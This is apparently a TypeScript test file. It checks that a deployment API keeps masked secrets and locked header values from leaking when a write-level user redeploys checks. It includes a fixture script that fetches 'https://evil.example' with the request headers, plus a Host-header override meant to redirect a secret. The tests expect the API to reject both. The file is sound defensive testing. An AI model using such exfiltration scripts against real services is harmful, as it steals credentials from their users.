/** Tests which hidden values a deployment by a member with write access may send. */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { TestApp } from "../../../test/support/apps/app.ts";
import { createKey } from "../../../test/support/apps/cast.ts";
import { shareTestApp } from "../../../test/support/apps/shared-app.ts";
import {
  createProjectCalls,
  one,
  type Resource,
  ref,
  toBody,
} from "../../../test/support/modules/projects.ts";

let app: TestApp;
let writer: string;
let admin: string;
before(async () => {
  app = await shareTestApp({ BUILT_IN_PROBE: "false" });
  writer = (await createKey(app, "READ_WRITE")).key;
  admin = (await createKey(app, "ADMIN")).key;
});
after(() => app.stop());
const { post, complete } = createProjectCalls(() => app);

const hidden = { key: "TOKEN", value: "s3cret-canary", secret: true };

async function deploy(key: string, logicalId: string, resources: readonly Resource[]) {
  const started = await post("/v1/projects/deploy", toBody(logicalId, [...resources]), key);
  if (started.status !== 202) return JSON.stringify(started.body);
  const ended = await complete(logicalId, started.body.id);
  return ended.status === "SUCCEEDED" ? "SUCCEEDED" : JSON.stringify(ended);
}

const group = (value: string) =>
  one("check-group", "group", { name: "Group", environmentVariables: [{ ...hidden, value }] });

const scripted = (logicalId: string, localSetupScript = "1") =>
  one("check", logicalId, {
    checkType: "API",
    name: logicalId,
    activated: false,
    groupId: ref("group"),
    localSetupScript,
    request: { method: "GET", url: "https://api.example.com" },
  });

test("a value that a deployment enters may go to the scripts of the deployment", async () => {
  const ended = await deploy(writer, "entered", [group("one"), scripted("a"), scripted("b", "2")]);
  assert.equal(ended, "SUCCEEDED");
});

const header = { key: "X-Token", value: "s3cret-canary", locked: true };
const masked = { ...header, value: "********" };

function sending(headers: readonly object[], more: object = {}) {
  const request = { method: "GET", url: "https://api.example.com", headers };
  return one("check", "check", {
    ...{ checkType: "API", name: "Check", activated: false },
    ...more,
    request,
  });
}

test("a deployment that keeps a value of a check sends it to no new script", async () => {
  assert.equal(await deploy(admin, "kept", [sending([header])]), "SUCCEEDED");
  const script = { localSetupScript: "fetch('https://evil.example', request.headers)" };
  const attack = await deploy(writer, "kept", [sending([masked], script)]);
  assert.match(attack, /HIDDENVALUES/);
  assert.equal(await deploy(writer, "kept", [sending([masked], { name: "Other" })]), "SUCCEEDED");
  assert.equal(await deploy(writer, "kept", [sending([header], script)]), "SUCCEEDED");
});

test("a deployment that keeps a value of a group sends it no other way", async () => {
  const defaults = (headers: readonly object[]) =>
    one("check-group", "group", {
      name: "Defaults",
      apiCheckDefaults: { url: "https://api.example.com", headers },
    });
  assert.equal(await deploy(admin, "defaults", [defaults([header])]), "SUCCEEDED");
  const host = { key: "Host", value: "evil" };
  const attack = await deploy(writer, "defaults", [defaults([masked, host])]);
  assert.match(attack, /HIDDENVALUES/);
  assert.equal(await deploy(writer, "defaults", [defaults([header, host])]), "SUCCEEDED");
});

test("a deployment that keeps a hidden variable does not show it", async () => {
  const variable = (change: object) =>
    one("environment-variable", "CANARY", { key: "CANARY", value: "s3cret-canary", ...change });
  assert.equal(await deploy(admin, "shown", [variable({ secret: true })]), "SUCCEEDED");
  await deploy(writer, "shown", [variable({ value: "********", secret: false })]);
  const read = await app.call("GET", "/v1/variables", { key: writer });
  assert.ok(!read.text.includes("s3cret-canary"), read.text);
});
